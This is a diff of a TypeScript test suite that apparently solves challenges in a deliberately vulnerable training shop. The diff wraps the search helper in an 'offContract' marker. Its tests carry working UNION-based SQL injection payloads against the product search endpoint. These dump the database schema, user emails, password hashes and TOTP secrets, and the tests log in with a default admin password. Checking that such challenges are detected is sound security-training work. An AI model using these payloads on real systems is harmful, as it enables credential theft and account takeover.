@@ -9,6 +9,7 @@ import { finePrintPath } from '../../src/features/privacy-proof/fine-print';
 import { registerCustomer } from '../account-helpers';
 import { connect, connected, expectNotSolved, expectSolved, exploit, isFixedIn, listen, settled, type TestSocket } from '../challenges';
 import { adminHeaders } from './staff-session';
+import { offContract } from '../contract-answers';
 
 /**
  * Solvers for the client, content and infrastructure challenges whose detection the server
@@ -33,6 +34,8 @@ const search = (q: string) => get(`/rest/products/search?q=${encodeURIComponent(
 /** The search's result columns (Products has nine): a UNION must produce as many. */
 const COLUMNS = 9;
 const union = (select: string, from: string) => `nothing')) UNION SELECT ${select} FROM ${from}--`;
+/** A search with a UNION: its rows come from another table, so the answer is the flaw's, not the contract's products. */
+const searchUnion = (select: string, from: string) => offContract('the search injection answers rows of another table', () => search(union(select, from)));
 const pad = (...columns: string[]) => [...columns, ...Array.from({ length: COLUMNS - columns.length }, (_, i) => String(i + 1))].join(', ');
 
 describe('the product search (Error Handling, Database Schema, User Credentials)', () => {
@@ -57,10 +60,10 @@ describe('the product search (Error Handling, Database Schema, User Credentials)
 
   it('"Database Schema": a UNION over sqlite_master returns every table definition', async () => {
     // A half-hearted attempt (only one table) is not the schema.
-    await search(union(pad('sql'), "sqlite_master WHERE name = 'Users'"));
+    await searchUnion(pad('sql'), "sqlite_master WHERE name = 'Users'");
     await expectNotSolved(shop, 'dbSchemaChallenge');
     await exploit(shop, 'dbSchemaChallenge', async () => {
-      const response = await search(union(pad('sql'), 'sqlite_master'));
+      const response = await searchUnion(pad('sql'), 'sqlite_master');
       expect(response.statusCode).toBe(200);
       const definitions = response.json().data.map((row: { id: string }) => row.id);
       expect(definitions).toEqual(expect.arrayContaining([expect.stringMatching(/^CREATE TABLE Users/), expect.stringMatching(/^CREATE TABLE Products/)]));
@@ -70,7 +73,7 @@ describe('the product search (Error Handling, Database Schema, User Credentials)
 
   it('"User Credentials": the same injection returns every email and password hash', async () => {
     await exploit(shop, 'unionSqlInjectionChallenge', async () => {
-      const response = await search(union(pad('email', 'password'), 'Users'));
+      const response = await searchUnion(pad('email', 'password'), 'Users');
       expect(response.statusCode).toBe(200);
       const rows = response.json().data as { id: string; name: string }[];
       expect(rows).toContainEqual(expect.objectContaining({ id: 'admin@pulp.shop', name: createHash('md5').update('admin123').digest('hex') }));
@@ -78,12 +81,12 @@ describe('the product search (Error Handling, Database Schema, User Credentials)
   });
 
   it('solves again after a progress reset, although the same query was sent before', async () => {
-    const query = union(pad('email', 'password'), 'Users');
-    await exploit(shop, 'unionSqlInjectionChallenge', async () => void (await search(query)));
+    const leak = () => searchUnion(pad('email', 'password'), 'Users');
+    await exploit(shop, 'unionSqlInjectionChallenge', async () => void (await leak()));
     const { headers } = await shop.login('admin@pulp.shop', 'admin123');
     expect((await shop.app.inject({ method: 'POST', url: '/rest/admin/reset', headers, payload: { scope: 'progress' } })).statusCode).toBe(200);
     await expectNotSolved(shop, 'unionSqlInjectionChallenge');
-    await exploit(shop, 'unionSqlInjectionChallenge', async () => void (await search(query)));
+    await exploit(shop, 'unionSqlInjectionChallenge', async () => void (await leak()));
   });
 
   it('cannot write through the injection: one reading statement only', async () => {
@@ -131,7 +134,7 @@ describe('"Two Factor Authentication"', () => {
       return shop.app.inject({ method: 'POST', url: '/rest/2fa/verify', payload: { tmpToken: login.json().data.tmpToken, totpToken: await generate({ secret }) } });
     };
     await exploit(shop, 'twoFactorAuthUnsafeSecretStorageChallenge', async () => {
-      const leaked = (await search(union(pad('email', 'password', 'totpSecret'), 'Users'))).json().data as { id: string; name: string; description: string }[];
+      const leaked = (await searchUnion(pad('email', 'password', 'totpSecret'), 'Users')).json().data as { id: string; name: string; description: string }[];
       // Where the search injection is fixed (hardened), the same columns come from a copy of the database that leaked elsewhere.
       const rows = isFixedIn(shop, 'unionSqlInjectionChallenge')
         ? shop.ctx.db.prepare<[], { id: string; name: string; description: string }>('SELECT email AS id, password AS name, totpSecret AS description FROM Users').all()
